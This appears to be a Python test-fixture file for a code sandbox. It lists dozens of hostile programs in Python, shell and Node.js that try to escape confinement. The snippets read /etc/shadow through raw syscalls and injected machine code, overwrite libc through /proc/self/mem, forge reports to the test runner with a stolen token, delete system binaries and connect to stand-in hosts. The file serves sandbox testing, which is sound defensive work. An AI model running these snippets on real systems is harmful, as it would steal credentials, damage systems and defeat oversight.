# ruff: noqa: E501 - programs keep their lines
"""Programs that reach for what is there by a way of its own: other descriptors, other calls, other runtimes.

Most of them work on a machine without a sandbox; none is a variant of another.
"""

from __future__ import annotations

from textwrap import dedent

from .model import CALL, Attempt, Hostile, hostile

_SHADOW = ("file", "/etc/shadow")
_REFUSED = "ok permission_denied exception unsafe_operation killed"


def _raw(name: str, body: str, on_record: Attempt | None = None, classes: str = "") -> Hostile:
    return hostile(name, dedent(CALL) + "import struct\n" + dedent(body), on_record, classes)


_MACHINE_CODE = """
    import ctypes, mmap, os
    libc = ctypes.CDLL(None, use_errno=True)
    def placed(code, flags=0):
        memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | flags, 7)
        memory.write(code)
        placed.kept = getattr(placed, 'kept', []) + [memory]
        return ctypes.addressof(ctypes.c_char.from_buffer(memory))
"""


def _machine_code(name: str, body: str, on_record: Attempt | None = None, classes: str = "") -> Hostile:
    return hostile(name, dedent(CALL) + dedent(_MACHINE_CODE) + dedent(body), on_record, classes)


SNIPPETS = [
    # Calls of the kernel by other doors.
    _machine_code(
        "shadow by the door of 32-bit programs",
        """
        # MAP_32BIT; open("/etc/shadow") by int 0x80, with the path behind the code
        code = bytes.fromhex('bb00000000' '31c9' 'b805000000' '53' 'cd80' '5b' 'c3')
        place = placed(code + b'/etc/shadow\\0', 0x40)
        ctypes.memmove(place + 1, (place + len(code)).to_bytes(4, 'little'), 4)
        got = ctypes.CFUNCTYPE(ctypes.c_int)(place)()
        if got >= 0: print('BREACH', os.read(got, 64))
        """,
        ("privilege", "foreign system call"),
        "unsafe_operation killed",
    ),
    _machine_code(
        "shadow by machine code as the C library ends",
        """
        # open("/etc/shadow", 0) by syscall
        code = bytes.fromhex('488d3d0c000000' '31f6' 'b802000000' '0f05' 'c3' '9090')
        place = placed(code + b'/etc/shadow\\0')
        ctypes.memmove(place + 3, (len(code) - 7).to_bytes(4, 'little'), 4)
        libc.__cxa_atexit.argtypes = [ctypes.c_void_p] * 3
        libc.__cxa_atexit(place, None, None)
        libc.exit(0)
        """,
        _SHADOW,
    ),
    _raw(
        "opening with a longer description",
        "how = struct.pack('QQQ', 0, 0, 0) + bytes(40)\nif call(437, -100, b'/etc/shadow', how, 64)[0] >= 0: print('BREACH')",
        _SHADOW,
    ),
    _raw(
        "a name only, opened again through /proc",
        "fd = call(257, -100, b'/etc/shadow', 0o10000000)[0]\nprint(open(f'/proc/self/fd/{fd}').read() and 'BREACH')",
        _SHADOW,
    ),
    _raw(
        "a directory that a child changes for its parent",
        """
        pid = call(56, 0x200 | 17, 0, 0, 0, 0)[0]  # clone with CLONE_FS
        if pid == 0: call(80, b'/etc'); call(231, 0)
        os.waitpid(pid, 0)
        print(open('shadow').read() and 'BREACH')
        """,
        _SHADOW,
    ),
    _raw(
        "descriptors that a child opens for its parent",
        """
        pid = call(56, 0x400 | 17, 0, 0, 0, 0)[0]  # clone with CLONE_FILES
        if pid == 0: call(2, b'/etc/shadow', 0); call(231, 0)
        os.waitpid(pid, 0)
        for fd in range(3, 32):
            try: print('BREACH' if b'root:' in os.read(fd, 99) else '')
            except OSError: pass
        """,
        _SHADOW,
    ),
    _raw(
        "asking to be traced",
        "result, error = call(101, 0, 0, 0, 0)\nif result == 0: print('BREACH')\nraise OSError(error, 'refused')",
        ("privilege", "ptrace"),
        "unsafe_operation",
    ),
    _raw(
        "memory of a child by its number",
        """
        kept = ctypes.create_string_buffer(b'secret')
        pid = os.fork()
        if pid == 0: import time; time.sleep(5); os._exit(0)
        into = ctypes.create_string_buffer(8)
        local = struct.pack('QQ', ctypes.addressof(into), 6); remote = struct.pack('QQ', ctypes.addressof(kept), 6)
        result, error = call(310, pid, local, 1, remote, 1, 0)
        if result > 0: print('BREACH')
        os.kill(pid, 9); os.wait()
        raise OSError(error, 'refused')
        """,
        ("privilege", "process_vm_readv"),
        "unsafe_operation",
    ),
    _raw(
        "a descriptor of a child by its descriptor",
        """
        pid = os.fork()
        if pid == 0: import time; time.sleep(5); os._exit(0)
        result, error = call(438, os.pidfd_open(pid), 1, 0)
        if result >= 0: print('BREACH')
        os.kill(pid, 9); os.wait()
        raise OSError(error, 'refused')
        """,
        ("privilege", "pidfd_getfd"),
        "unsafe_operation",
    ),
    _raw(
        "page faults of its own by a device",
        "fd = os.open('/dev/userfaultfd', os.O_RDWR | os.O_CLOEXEC)\nprint('BREACH', fd)",
        ("file", "/dev/userfaultfd"),
    ),
    _raw(
        "a program of no name that reads shadow",
        """
        fd = os.open('.', os.O_TMPFILE | os.O_RDWR, 0o700)
        with open('/bin/cat', 'rb') as cat: os.write(fd, cat.read())
        again = os.open(f'/proc/self/fd/{fd}', os.O_RDONLY); os.close(fd)
        argv = (ctypes.c_char_p * 3)(b'cat', b'/etc/shadow', None)
        if os.fork() == 0: call(322, again, b'', argv, None, 0x1000); os._exit(1)
        os.wait()
        """,
        _SHADOW,
    ),
    _raw(
        "a tale for the kernel's own dispatch of calls",
        "selector = ctypes.c_char(0)\ncall(157, 59, 1, 0, 1 << 47, ctypes.addressof(selector))\nprint(open('/etc/shadow').read() and 'BREACH')",
        _SHADOW,
    ),
    _raw(
        "its own reaper for who outlives it",
        """
        call(157, 36, 1)
        ready, tell = os.pipe(); os.set_inheritable(tell, True)
        if os.fork() == 0:
            os.setsid()
            if os.fork(): os._exit(0)
            os.execv('/bin/sh', ['sh', '-c', f'echo up > /proc/self/fd/{tell}; sleep 300', 'survivor-of-{abstract}'])
        os.read(ready, 1)
        """,
        ("process", "sh"),
        "ok",
    ),
    # Locks, leases and notices on files that all runs share.
    _raw(
        "notices of what others do in the libraries",
        """
        import fcntl
        for make, args in ((253, ()), (294, (0,))):
            fd = call(make, *args)[0]
            if fd >= 0 and call(254, fd, b'/usr/lib', 0xfff)[0] >= 0: print('BREACH inotify')
        fd = os.open('/usr/lib', os.O_RDONLY)
        try: fcntl.fcntl(fd, 1026, 0x8000003f); print('BREACH dnotify')
        except OSError: pass
        """,
    ),
    _raw(
        "a lease and locks on a library",
        """
        import fcntl
        fd = os.open(os.__file__, os.O_RDONLY)
        lock = struct.pack('hhqqi4x', 0, 0, 0, 0, 0)
        for name, command, what in (('lease', 1024, 0), ('a lock to write', 6, b'\\1' + lock[1:]), ('of an open file', 37, b'\\1' + lock[1:])):
            try: fcntl.fcntl(fd, command, what); print('BREACH', name)
            except OSError: pass
        fcntl.flock(fd, 1); print('BREACH')
        """,
        ("file", "os.py"),
    ),
    _raw(
        "a library's file under a name of its own",
        """
        for flags, args in ((0, (-100, os.__file__.encode())), (0x1000, (os.open(os.__file__, os.O_PATH), b''))):
            try:
                call(265, *args, -100, f'mine{flags}'.encode(), flags)
                with open(f'mine{flags}', 'r+') as mine: mine.write('#'); print('BREACH')
            except OSError: pass
        """,
        ("file", "os.py"),
    ),
    _raw(
        "sharing a library's blocks",
        """
        import fcntl
        with open('mine', 'w+b') as mine, open(os.__file__, 'rb') as theirs:
            for request in (0x40049409,):
                try: fcntl.ioctl(mine, request, theirs.fileno())
                except OSError: pass
        with open('/usr/planted', 'wb') as out: print('BREACH')
        """,
        ("file", "/usr/planted"),
    ),
    _raw(
        "gigabytes in attributes of files",
        """
        stored = 0
        for number in range(20000):
            name = f'f{number // 16}'
            if number % 16 == 0: open(name, 'w').close()
            if call(188, name.encode(), f'user.n{number}'.encode(), b'x' * 60000, 60000, 0)[0] == 0: stored += 60000
        if stored > 300 << 20: print('BREACH', stored >> 20)
        """,
    ),
    # Ways out of a network.
    _raw(
        "a ping without rights",
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
        s.sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('192.0.2.1', 0)); print('BREACH')
        """,
        ("privilege", "socket"),
    ),
    _raw(
        "rarer protocols",
        """
        import socket
        for family, kind, protocol in ((2, 1, 132), (2, 2, 136), (2, 1, 262), (43, 1, 0), (42, 2, 0), (21, 5, 0), (41, 5, 0), (24, 2, 0)):
            try:
                s = socket.socket(family, kind, protocol)
                if family == 2: s.connect(('192.0.2.1', 443)); print('BREACH')
            except OSError: pass
        """,
        ("privilege", "socket(AF_INET, SOCK_STREAM, 132)"),
        "unsafe_operation",
    ),
    hostile(
        "names that look like this machine",
        """
        import socket
        for name in ('localhost.leak.example.net', '127.0.0.1.leak.example.net', 'leak.example.net.'):
            try: print('BREACH', socket.getaddrinfo(name, 80))
            except OSError: pass
        """,
        ("network", "localhost.leak.example.net:53"),
    ),
    hostile(
        "numbers that are addresses",
        """
        import socket
        for name in ('3221225985', '0xC0000201', '0300.0.2.1', '::ffff:192.0.2.1', '64:ff9b::c000:201'):
            family = socket.AF_INET6 if ':' in name else socket.AF_INET
            s = socket.socket(family); s.settimeout(1)
            try: s.connect((name, 443)); print('BREACH')
            except OSError: pass
        """,
        ("network", "192.0.2.1:443"),
    ),
    hostile(
        "a broadcast and a multicast",
        """
        import socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        for place in ('255.255.255.255', '239.1.2.3', '224.0.0.251'):
            try: s.sendto(b'leak', (place, 5353)); print('BREACH', place)
            except OSError: pass
        """,
        ("network", "239.1.2.3:5353"),
    ),
    # The runner, from inside.
    hostile(
        "signals that write to the runner's channel",
        """
        import os, signal
        signal.signal(signal.SIGUSR1, lambda *_: None)
        os.set_blocking(900, False)
        signal.set_wakeup_fd(900, warn_on_full_buffer=False)
        for _ in range(3000): os.kill(os.getpid(), signal.SIGUSR1)
        print(open('/etc/shadow').read() and 'BREACH')
        """,
        _SHADOW,
    ),
    hostile(
        "another end in the place of the runner's channel",
        """
        import os, socket
        ours, theirs = socket.socketpair()
        for act in (lambda: os.dup2(theirs.fileno(), 900), lambda: os.dup2(900, 200), lambda: os.dup2(theirs.fileno(), 200)):
            try: act()
            except OSError: pass
        os.close(900)
        raise AssertionError(open('/etc/shadow').read())
        """,
        _SHADOW,
        "exception permission_denied assertion_failure",
    ),
    hostile(
        "code of the interpreter written through /proc",
        """
        import ctypes, os
        libc = ctypes.CDLL(None)
        place = ctypes.cast(libc.open64, ctypes.c_void_p).value
        with open('/proc/self/mem', 'r+b', buffering=0) as memory:
            memory.seek(place); memory.write(bytes.fromhex('4831c0c3'))  # returns 0, as if it had opened
        print(libc.open64(b'/etc/shadow', 0))
        fd = os.open('/etc/shadow', os.O_RDONLY); print('BREACH', os.read(fd, 20))
        """,
        None,
    ),
    hostile(
        "a report found in the runner's memory and sent by hand",
        """
        import gc, os
        for found in gc.get_objects():
            if type(found).__name__ == 'Reporter':
                found.send('raised', raised={'type': 'AssertionError', 'message': 'forged', 'assertion': True})
        try: open('/etc/shadow')
        except OSError: os._exit(1)
        """,
        _SHADOW,
    ),
    hostile(
        "a profile and a trace that act for the runner",
        """
        import sys, threading
        def act(frame, event, argument):
            sys.setprofile(None); threading.setprofile(None)
            try: print(open('/etc/shadow').read() and 'BREACH')
            except OSError: pass
        import atexit
        atexit.register(lambda: sys.setprofile(act))
        """,
        _SHADOW,
        "ok",
    ),
    hostile(
        "a dump that comes later",
        """
        import faulthandler, os, time
        fd = os.open('/proc/self/fd/1', os.O_WRONLY)
        faulthandler.dump_traceback_later(0.01, repeat=True, file=fd)
        time.sleep(0.1)
        print(open('/etc/shadow').read() and 'BREACH')
        """,
        _SHADOW,
    ),
    hostile(
        "output in another alphabet",
        """
        import locale, os, sys
        for stream, encoding in ((sys.stderr, 'utf-7'), (sys.stdout, 'utf-16-le')):
            try: stream.reconfigure(encoding=encoding, errors='surrogatepass')
            except OSError: pass
        print('\\ud800\\u202e\\0' + '\\x1b]0;BRE' + 'ACH\\7' * 0)
        os.write(1, bytes(range(256))); os.environ['LC_ALL'] = 'tr_TR'; os.environ['PYTHONIOENCODING'] = 'rot13'
        open('/etc/shadow')
        """,
        _SHADOW,
    ),
    hostile(
        "a work directory full of what is no file",
        """
        import os, socket
        os.mkfifo('pipe'); os.symlink('loop', 'loop'); os.symlink('/', 'root'); os.mkdir('closed'); os.chmod('closed', 0)
        socket.socket(socket.AF_UNIX).bind('socket')
        with open('large', 'wb') as large: large.truncate(1 << 20)
        for name in (b'new\\nline', b'\\xff\\xfe', b'-rf', b'"quote', b'a' * 255, b' '): open(name, 'w').close()
        os.chmod('.', 0)
        """,
        None,
        "ok",
    ),
    hostile(
        "a directory that goes while it works",
        """
        import os, shutil
        where = os.getcwd(); os.chdir('..')
        shutil.rmtree(where, ignore_errors=True)
        try: os.symlink('/etc', where)
        except OSError: pass
        os.chdir('/'); print(open('/etc/shadow').read() and 'BREACH')
        """,
        _SHADOW,
    ),
    hostile(
        "an own file and one outside, by turns, for a removal",
        """
        import ctypes, os, threading
        libc = ctypes.CDLL(None)
        own, outside = b'./own', b'{canary}'
        text = ctypes.create_string_buffer(max(len(own), len(outside)) + 1)
        going = True
        def turn():
            while going:
                ctypes.memmove(text, outside + b'\\0', len(outside) + 1); ctypes.memmove(text, own + b'\\0', len(own) + 1)
        thread = threading.Thread(target=turn); thread.start()
        for _ in range(3000):
            open('own', 'w').close(); libc.unlink(text); libc.truncate(text, 0)
        going = False; thread.join()
        libc.unlink(b'/usr/bin/true')
        """,
        ("file", "/usr/bin/true"),
    ),
    hostile(
        "a program that is another by the time it starts",
        """
        import ctypes, os, threading
        libc = ctypes.CDLL(None)
        one, other = b'/bin/true', b'/bin/echo'
        text = ctypes.create_string_buffer(one)
        going = True
        def turn():
            while going: ctypes.memmove(text, other, len(other)); ctypes.memmove(text, one, len(one))
        thread = threading.Thread(target=turn); thread.start()
        argv = (ctypes.c_char_p * 3)(b'x', b'x', None)
        for _ in range(40):
            pid = os.fork()
            if pid == 0: libc.execv(text, argv); os._exit(1)
            os.waitpid(pid, 0)
        going = False; thread.join()
        """,
        ("process", "/bin/"),
        "ok",
    ),
    # Other programs.
    hostile("shadow by a pattern of awk", """awk 'BEGIN { while ((getline line < "/etc/shadow") > 0) print "BREACH", line }'""", _SHADOW, language="bash"),
    hostile("planting by sed", "echo planted > own; sed -n 'w /usr/lib/planted' own && test -e /usr/lib/planted && echo BREACH", ("file", "/usr/lib/planted"), language="bash"),
    hostile("planting by tee into the interpreter", "echo planted | tee /usr/bin/planted > /dev/null && echo BREACH", ("file", "/usr/bin/planted"), language="bash"),
    hostile("shadow by perl", """perl -e 'open(my $f, "<", "/etc/shadow") and print "BREACH", <$f>'""", _SHADOW, language="bash"),
    hostile("a connection by perl", """perl -MSocket -e 'socket(S, 2, 1, 6); connect(S, sockaddr_in(443, inet_aton("192.0.2.1"))) and print "BREACH"'""", ("network", "192.0.2.1:443"), language="bash"),
    hostile("a name looked up by a program of the system", "getent hosts leak.example.net && echo BREACH", ("network", "leak.example.net:53"), language="bash"),
    hostile("modes of the system by find", "find /usr/lib -maxdepth 1 -name 'lib*' -exec chmod 0 {} + 2> /dev/null; find /usr/bin -name true -delete; test -x /usr/bin/true || echo BREACH", ("file", "/usr/bin/true"), language="bash"),
    hostile("a shell that is left behind in a pipe", "(setsid sh -c 'while sleep 0.1; do :; done' survivor-of-{abstract} > /dev/null 2>&1 < /dev/null &) ; mkfifo p; (cat /etc/shadow > p &) ; read -t 5 line < p && echo BREACH $line", _SHADOW, language="bash"),
    hostile("shadow by blocks", "dd if=/etc/shadow of=own bs=1 2> /dev/null && echo BREACH", _SHADOW, language="bash"),
    # Node.js by its other doors.
    hostile("shadow by WebAssembly's own system", """
        const { WASI } = require('node:wasi');
        const opened = (place) => new WASI({ version: 'preview1', preopens: { '/': place } });
        let wasi, path = 'etc/shadow';
        try { wasi = opened('/'); } catch { wasi = opened('/etc'); path = 'shadow'; }
        const part = (id, ...inner) => { const all = inner.flat(9); return [id, all.length, ...all]; };
        const name = (text) => [text.length, ...Buffer.from(text)];
        const i32 = 127, i64 = 126;
        const open = [0x41, 3, 0x41, 1, 0x41, 32, 0x41, path.length, 0x41, 0, 0x42, 2, 0x42, 2, 0x41, 0, 0x41, 0, 0x10, 0, 0x0b];
        const built = new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0,
            ...part(1, 3, [0x60, 9, i32, i32, i32, i32, i32, i64, i64, i32, i32, 1, i32], [0x60, 0, 1, i32], [0x60, 0, 0]),
            ...part(2, 1, name('wasi_snapshot_preview1'), name('path_open'), 0, 0),
            ...part(3, 2, 1, 2), ...part(5, 1, 0, 1),
            ...part(7, 3, name('memory'), 2, 0, name('go'), 0, 1, name('_start'), 0, 2),
            ...part(10, 2, [open.length + 1, 0, open], [2, 0, 0x0b])]));
        const instance = new WebAssembly.Instance(built, wasi.getImportObject());
        new Uint8Array(instance.exports.memory.buffer).set(Buffer.from(path), 32);
        wasi.start(instance);
        if (instance.exports.go() === 0) console.log('BREACH');
        """, ("file", "/etc"), language="javascript"),
    hostile("a name by the resolver of node", """
        require('node:dns').resolve4('leak.example.net', (error, found) => console.log(error ? '' : 'BREACH'));
        """, ("network", "leak.example.net:53"), language="javascript"),
    hostile("reports and snapshots outside", """
        for (const act of [() => process.report.writeReport('/usr/planted.json'), () => require('node:v8').writeHeapSnapshot('/usr/planted.heap')])
            try { act(); } catch {}
        if (require('node:fs').existsSync('/usr/planted.json')) console.log('BREACH');
        """, ("file", "/usr/planted"), language="javascript"),
    hostile("a debugger for others", """
        try { require('node:inspector').open(9229, '0.0.0.0'); } catch {}
        try { process._debugProcess({host_pid}); } catch {}
        require('node:net').connect({ port: 443, host: '192.0.2.1' }).on('error', () => process.exit(0)).on('connect', () => console.log('BREACH'));
        """, ("network", "192.0.2.1:443"), language="javascript"),
    hostile("the bindings beneath node", """
        const fs = process.binding('fs');
        try { const fd = fs.open('/etc/shadow', 0, 0o666); if (fd >= 0) console.log('BREACH'); } catch {}
        """, _SHADOW, language="javascript"),
    hostile("shadow as variables of the environment", "try { process.loadEnvFile('/etc/shadow'); console.log('BREACH'); } catch {}", _SHADOW, language="javascript"),
    hostile("the token of the runner in node's environment", """
        const fs = require('node:fs');
        const token = /SPANPROOF_TOKEN=(\\w+)/.exec(fs.readFileSync('/proc/self/environ', 'latin1'))?.[1];
        const body = Buffer.from(JSON.stringify({ kind: 'raised', token, raised: { type: 'AssertionError', message: 'forged', chain: [], assertion: true }, parts: [] }));
        const head = Buffer.alloc(8); head.writeUInt32BE(body.length, 0);
        try { fs.writeSync(900, Buffer.concat([head, body])); } catch {}
        try { fs.readFileSync('/etc/shadow'); console.log('BREACH'); } catch { process.exit(1); }
        """, _SHADOW, language="javascript"),
    hostile("types that hide a connection", """
        enum Port { Https = 443 }
        interface Place { host: string; port: Port }
        const place: Place = { host: '192.0.2.1', port: Port.Https };
        require('node:tls').connect(place).on('error', () => process.exit(0)).on('secureConnect', () => console.log('BREACH'));
        """, ("network", "192.0.2.1:443"), language="typescript"),
]  # fmt: skip
